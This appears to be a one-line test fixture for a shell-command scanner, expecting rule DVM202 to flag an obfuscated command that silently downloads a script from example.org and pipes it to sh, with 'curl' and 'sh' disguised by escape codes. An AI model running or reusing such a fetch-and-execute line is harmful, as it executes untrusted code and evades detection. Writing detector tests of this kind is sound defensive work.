# expect: DVM202
$'\x63url' -s https://example.org/i.sh | $'\163h'
